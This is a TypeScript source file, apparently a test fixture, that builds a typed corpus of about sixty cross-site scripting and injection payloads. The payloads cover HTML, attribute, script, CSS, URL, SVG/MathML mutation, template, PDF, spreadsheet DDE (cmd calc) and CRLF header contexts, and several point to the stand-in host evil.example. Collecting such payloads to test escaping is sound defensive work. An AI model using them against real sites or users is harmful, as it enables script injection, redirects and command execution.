/** The way out of text that a payload stands for. */
export type WayOut =
  | 'element content'
  | 'quoted attribute'
  | 'unquoted attribute'
  | 'raw text'
  | 'comment'
  | 'script string'
  | 'JSON in a script'
  | 'style'
  | 'address'
  | 'namespace'
  | 'mutation'
  | 'template'
  | 'encoding'
  | 'names of the page'
  | 'handler'
  | 'document in a document'
  | 'PDF'
  | 'spreadsheet'
  | 'header';

export interface Hostile {
  readonly way: WayOut;
  readonly text: string;
  /** The form of its bytes in a posted body, where it is not that of the text. */
  readonly wire?: string;
}

/** Set by payloads that would run without a dialog; nobody else knows the name. */
export const RAN = 'hostileRan';

const of = (way: WayOut, ...texts: readonly string[]): Hostile[] => texts.map((text) => ({ way, text }));

/** Bytes that are no UTF-8: the overlong form of `<` and `>`. What the server reads is the replacement sign. */
const overlong = (): Hostile => {
  const wire = '%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE';
  return { way: 'encoding', wire, text: new URLSearchParams(`x=${wire}`).get('x') ?? '' };
};

/** Sixty payloads, for each way out of text some. All are short enough for most questions. */
export const CORPUS: readonly Hostile[] = [
  ...of(
    'element content',
    '<script>alert(1)</script>',
    '<ScRiPt>alert(1)</sCrIpT>',
    '<<script>alert(1)//<</script>',
    '<svg/onload=alert(1)>',
    `<img src=x onerror=${RAN}=1>`,
    '<img src=x onerror=alert(1)//',
    '<meta http-equiv=refresh content=0;url=//evil.example>',
    '<base href=//evil.example>',
  ),
  ...of(
    'quoted attribute',
    '"><svg onload=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    '` autofocus onfocus=alert(1) x=`',
    "'onfocus=alert`1`//'@evil.example",
  ),
  ...of('unquoted attribute', 'x onmouseover=alert(1) y', 'x/autofocus/onfocus=alert(1)//'),
  ...of(
    'raw text',
    '</title><script>alert(1)</script>',
    '</textarea><script>alert(1)</script>',
    '</noscript><img src=x onerror=alert(1)>',
    '</select><img src=x onerror=alert(1)>',
  ),
  ...of('comment', '--><script>alert(1)</script>', '--!><img src onerror=alert(1)>'),
  ...of('script string', `';${RAN}=1;//`, `\\";${RAN}=1;//`, `\`+${RAN}=1+\``),
  ...of(
    'JSON in a script',
    '</script><script>alert(1)</script>',
    '<!--<script>alert(1)',
    `\u2028${RAN}=1\u2029//x`,
    `\\u003c/script>"]);${RAN}=1;//`,
    ']]>"}]}<script>alert(1)</script>',
  ),
  ...of(
    'style',
    '</style><style>@import"//evil.example/x"',
    'x:expression(alert(1));background:url(javascript:alert(1))',
  ),
  ...of(
    'address',
    'javascript:alert(1)',
    'JaVa\tScRiPt:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    '//evil.example/%2e%2e',
    'javascript&colon;alert&lpar;1&rpar;',
  ),
  ...of(
    'namespace',
    '<svg><style><img src=x onerror=alert(1)>',
    '<math><mtext><script>alert(1)</script>',
    '<svg><animate onbegin=alert(1) attributeName=x>',
  ),
  ...of(
    'mutation',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  ),
  ...of('template', '{{7*7}}${7*7}<%= 7*7 %>#{7*7}', "{{constructor.constructor('alert(1)')()}}"),
  ...of(
    'encoding',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&#x3c;svg/onload&#x3d;alert(1)&#x3e;',
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    '<scr\0ipt>alert(1)</scr\0ipt>',
    '\ufeff<svg\u202e onload=alert(1)>\u2066',
  ),
  overlong(),
  ...of('names of the page', '<a id=__remixContext><a id=__remixContext name=stream>'),
  ...of('handler', '<svg onload=alert`1`>', '<svg onload="window.onerror=alert;throw 1">'),
  ...of('document in a document', '<iframe srcdoc="&lt;script>parent.alert(1)&lt;/script>">'),
  ...of('PDF', ') /JS (app.alert(1)) /S /JavaScript (', '\\) >> /OpenAction << /S /URI /URI (x'),
  ...of('spreadsheet', '=HYPERLINK("//evil.example","x")', "@SUM(1+1)*cmd|' /C calc'!A0"),
  ...of('header', `x\r\nSet-Cookie: ${RAN}=1\r\n\r\n<svg onload=alert(1)>`),
];
